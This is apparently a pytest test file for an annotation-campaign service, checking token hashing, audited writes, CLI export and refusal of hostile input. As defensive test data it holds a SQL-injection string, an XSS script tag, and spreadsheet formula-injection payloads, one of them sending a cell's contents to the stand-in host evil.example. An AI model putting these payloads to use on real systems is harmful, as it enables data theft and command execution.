"""The campaign write path (services.campaigns) and CLI: hashed tokens, audited locked writes, hostile inputs."""
from __future__ import annotations

import json

import pandas as pd
import pytest

from cli.main import main
from services import campaigns as svc
from store import campaigns, db
from store.schema import row_counts
from tests.helpers.human_fixture import MODELS, human_store

SYSTEMS = [(MODELS[0], "native"), (MODELS[1], "native")]


@pytest.fixture()
def mt(tmp_path):
    path = tmp_path / "h.duckdb"
    human_store(path)
    tokens = svc.create_campaign(path, campaign_id="mt-th", task="translation-en-xx", lang="th", systems=SYSTEMS,
                                 annotators=["ann", "bo", "cy"], n_items=4, k=3, seed=3, n_repeats=1)
    return path, tokens


def _full(n, correct=1):
    return {p: {"correct": correct} for p in range(n)}


def _n(path, annotator, seq, campaign="mt-th"):
    """How many candidates the annotator's seq-th item shows."""
    con = db.connect(path)
    try:
        return len(campaigns.assignments(con, campaign, annotator)[seq].cand_order)
    finally:
        con.close()


def test_create_stores_only_token_hashes_and_samples_answered_items(mt):
    path, tokens = mt
    con = db.connect(path)
    stored = {r[0] for r in con.execute("SELECT token_hash FROM campaign_tokens").fetchall()}
    assert stored == {svc.token_hash(t) for t in tokens.values()} and not set(tokens.values()) & stored
    items = {r[0] for r in con.execute("SELECT DISTINCT item_id FROM campaign_assignments").fetchall()}
    assert len(items) == 4 and "translation-en-xx-5" not in items  # beta never answered item 5
    c = campaigns.campaign(con, "mt-th")
    assert (c.protocol, c.seed, c.k, c.status) == ("mt", 3, 3, "open")
    assert con.execute("SELECT count(*) FROM audit WHERE action = 'campaign-create'").fetchone()[0] == 1
    assert campaigns.progress(con, "mt-th") == [("ann", 0, 5), ("bo", 0, 5), ("cy", 0, 5)]


def test_judgement_is_written_for_own_assignment_and_audited(mt):
    path, tokens = mt
    con = db.connect(path)
    first = campaigns.assignments(con, "mt-th", "ann")[0]
    con.close()
    n = len(first.cand_order)
    assert svc.submit_judgement(path, tokens["ann"], 0, {**_full(n), 0: {"correct": 0, "err_accuracy": 1, "esa": 35}},
                                {1: "<script>alert(1)</script> **bold**"}) == n + 3
    con = db.connect(path)
    got = campaigns.judgements(con, "mt-th")
    assert set(got["annotator"]) == {"ann"} and (got["criterion"] == "correct").sum() == n
    note = got.loc[got["criterion"] == "comment", "note"].item()
    assert note == "<script>alert(1)</script> **bold**"  # kept as text; pages render it as text
    assert con.execute("SELECT actor FROM audit WHERE action = 'judgement'").fetchone()[0] == "annotator:ann"
    assert campaigns.progress(con, "mt-th")[0] == ("ann", 1, 5)


@pytest.mark.parametrize("token,seq,values,match", [
    ("bogus", 0, None, "token"),
    ("ann", 99, None, "not assigned"),
    ("ann", 0, {0: {"correct": 2}}, "outside"),
    ("ann", 0, {0: {"fluency": 1}}, "unknown criterion"),
    ("ann", 0, {42: {"correct": 1}}, "no candidate"),
    ("ann", 0, {0: {"correct": 1}}, "not given"),
    ("ann", "0; DROP TABLE judgements", None, "not assigned"),
])
def test_hostile_judgements_are_refused_audited_and_change_nothing(mt, token, seq, values, match):
    path, tokens = mt
    svc.submit_judgement(path, tokens["bo"], 0, _full(_n(path, "bo", 0)))
    con = db.connect(path)
    before = row_counts(con)
    bo_rows = campaigns.judgements(con, "mt-th").to_dict("records")
    con.close()
    with pytest.raises(svc.CampaignRefused, match=match):
        svc.submit_judgement(path, tokens.get(token, token), seq, values or _full(_n(path, "ann", 0)))
    con = db.connect(path)
    assert row_counts(con) == before and campaigns.judgements(con, "mt-th").to_dict("records") == bo_rows
    assert con.execute("SELECT count(*) FROM audit WHERE action = 'reject'").fetchone()[0] == 1


def test_a_token_only_reaches_its_holder_and_reissue_revokes(mt):
    path, tokens = mt
    svc.submit_judgement(path, tokens["bo"], 0, _full(_n(path, "bo", 0), correct=1))
    svc.submit_judgement(path, tokens["ann"], 0, _full(_n(path, "ann", 0), correct=0))  # ann's seq 0, never bo's rows
    con = db.connect(path)
    got = campaigns.judgements(con, "mt-th")
    assert set(got.loc[got["annotator"] == "bo", "value"]) == {1.0}
    con.close()
    new = svc.reissue_tokens(path, "mt-th", ["bo"])
    with pytest.raises(svc.CampaignRefused, match="token"):
        svc.submit_judgement(path, tokens["bo"], 1, _full(_n(path, "bo", 1)))
    assert svc.submit_judgement(path, new["bo"], 1, _full(_n(path, "bo", 1))) == _n(path, "bo", 1)
    svc.set_finished(path, "mt-th")
    with pytest.raises(svc.CampaignRefused, match="closed"):
        svc.submit_judgement(path, new["bo"], 2, _full(_n(path, "bo", 2)))


def test_cli_create_status_tokens_export(tmp_path, capsys):
    path = tmp_path / "c.duckdb"
    human_store(path)
    assert main(["campaign", "create", "--db", str(path), "--id", "sum-ta", "--task", "abssum", "--lang", "ta",
                 "--systems", f"{MODELS[0]}:native,{MODELS[1]}:native", "--annotators", "ann,bo,cy", "--items", "3",
                 "--k", "2", "--seed", "5"]) == 0
    links = dict(line.split("\t") for line in capsys.readouterr().out.splitlines()[1:])
    token = links["ann"].split("token=")[1]
    n = _n(path, "ann", 0, "sum-ta")
    assert svc.submit_judgement(path, token, 0, {p: {"relevance": 4, "fluency": 5, "coherence": 3, "faithfulness": 1}
                                                 for p in range(n)}) == 4 * n
    assert main(["campaign", "status", "--db", str(path)]) == 0
    assert "sum-ta" in capsys.readouterr().out
    assert main(["campaign", "tokens", "--db", str(path), "--id", "sum-ta", "--annotators", "zed"]) == 2
    for fmt in ("csv", "jsonl", "parquet"):
        out = tmp_path / f"j.{fmt}"
        assert main(["campaign", "export", "--db", str(path), "--id", "sum-ta", "--format", fmt, "--out", str(out)]) == 0
        frame = (pd.read_csv(out) if fmt == "csv" else pd.read_parquet(out) if fmt == "parquet"
                 else pd.DataFrame([json.loads(x) for x in out.read_text().splitlines()]))
        assert len(frame) == 4 * n and set(frame["criterion"]) == {"relevance", "fluency", "coherence", "faithfulness"}
        assert set(frame["system"]) <= {f"{MODELS[0]}|native", f"{MODELS[1]}|native", "reference", "corrupted"}
    assert main(["campaign", "create", "--db", str(path), "--id", "bad", "--task", "abssum", "--lang", "ta",
                 "--systems", f"{MODELS[0]}:native", "--annotators", "ann", "--items", "30", "--k", "1"]) == 2
    assert "n_items" in capsys.readouterr().err


@pytest.mark.parametrize("seq,spans,match", [
    (0, {0: [{"start": 0, "end": 10_000, "severity": "minor"}]}, "outside the candidate"),
    (0, {0: [{"start": -1, "end": 2, "severity": "minor"}]}, "outside the candidate"),
    (0, {0: [{"start": 3, "end": 3, "severity": "major"}]}, "outside the candidate"),
    (0, {0: [{"start": 0, "end": 2, "severity": "<b>critical</b>"}]}, "severity must be minor or major"),
    (0, {0: [{"start": True, "end": 2, "severity": "minor"}]}, "whole numbers"),
    (0, {0: "0-2 major"}, "a list of at most 50 spans"),
    (0, {9: [{"start": 0, "end": 2, "severity": "minor"}]}, "no candidate 9"),
    (99, {0: [{"start": 0, "end": 2, "severity": "minor"}]}, "not assigned"),
])
def test_hostile_error_spans_are_refused_and_change_nothing(mt, seq, spans, match):
    path, tokens = mt
    svc.submit_judgement(path, tokens["bo"], 0, _full(_n(path, "bo", 0)),
                         spans={0: [{"start": 0, "end": 2, "severity": "major"}]})
    con = db.connect(path)
    before, bo_rows = row_counts(con), campaigns.judgements(con, "mt-th").to_dict("records")
    con.close()
    with pytest.raises(svc.CampaignRefused, match=match):
        svc.submit_judgement(path, tokens["ann"], seq, _full(_n(path, "ann", 0)), spans=spans)
    con = db.connect(path)
    assert row_counts(con) == before and campaigns.judgements(con, "mt-th").to_dict("records") == bo_rows
    assert con.execute("SELECT count(*) FROM audit WHERE action = 'reject'").fetchone()[0] == 1
    con.close()


def test_spans_only_for_translation_and_written_under_the_holder(tmp_path):
    path = tmp_path / "s.duckdb"
    human_store(path)
    tokens = svc.create_campaign(path, campaign_id="sum", task="abssum", lang="ta", systems=SYSTEMS,
                                 annotators=["ann"], n_items=2, k=1, seed=1, n_repeats=0)
    n = _n(path, "ann", 0, "sum")
    full = {p: {"relevance": 4, "fluency": 4, "coherence": 4, "faithfulness": 1} for p in range(n)}
    with pytest.raises(svc.CampaignRefused, match="only translation campaigns"):
        svc.submit_judgement(path, tokens["ann"], 0, full, spans={0: [{"start": 0, "end": 1, "severity": "minor"}]})
    assert svc.submit_judgement(path, tokens["ann"], 0, full, spans={0: []}) == 4 * n  # no spans: nothing extra


def test_figures_commit_with_the_judgement_and_stale_ones_are_recomputed_once(mt):
    from evaluator.human import results
    from services.human_results import refresh_stale
    from store.human_results import stale_campaigns

    path, tokens = mt
    svc.submit_judgement(path, tokens["ann"], 0, _full(_n(path, "ann", 0)))
    con = db.connect(path)
    try:
        assert stale_campaigns(con) == []  # computed in the judgement's transaction
        quality = con.execute("SELECT annotator, repeats FROM campaign_quality").fetchall()
        assert quality == [("ann", 0)]
        # a judgement written around the wiring (as a merge from the Hub would bring it) leaves the figures stale
        seq = campaigns.assignments(con, "mt-th", "bo")[0]
        campaigns.save_judgement(con, "mt-th", "bo", 0, [(c, "correct", 0.0, None) for c in seq.cand_order],
                                 actor="test")
        assert stale_campaigns(con) == ["mt-th"]
        assert refresh_stale(con) == ["mt-th"] and stale_campaigns(con) == [] and refresh_stale(con) == []
        j = campaigns.judgements(con, "mt-th")
        got = con.execute("SELECT system, criterion, value, n FROM campaign_provisional WHERE kind = 'mean' "
                          "ORDER BY ALL").fetchall()
        want = results.system_means(j, "mt").sort_values(["system", "criterion"])
        assert got == [(r.system, r.criterion, pytest.approx(r.mean), r.n) for r in want.itertuples()]
        assert con.execute("SELECT count(*) FROM campaign_quality").fetchone()[0] == 2
    finally:
        con.close()


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0")


def test_campaign_csv_export_neutralises_formula_comments(mt, tmp_path, capsys):
    """Annotators' comments are untrusted: `campaign export --format csv` writes them through the same neutraliser
    as the pages' downloads (store.sheets), so a spreadsheet shows each as text."""
    import csv

    import pages._ui
    import store.sheets

    path, tokens = mt
    for seq, text in enumerate(FORMULAS):
        n = _n(path, "ann", seq)
        svc.submit_judgement(path, tokens["ann"], seq, _full(n), {0: text})
    out = tmp_path / "j.csv"
    assert main(["campaign", "export", "--db", str(path), "--id", "mt-th", "--format", "csv", "--out", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    notes = sorted(r["note"] for r in rows if r["criterion"] == "comment")
    assert notes == sorted("'" + t for t in FORMULAS)
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
    assert pages._ui.csv_bytes is store.sheets.csv_bytes and svc.write_csv is store.sheets.write_csv
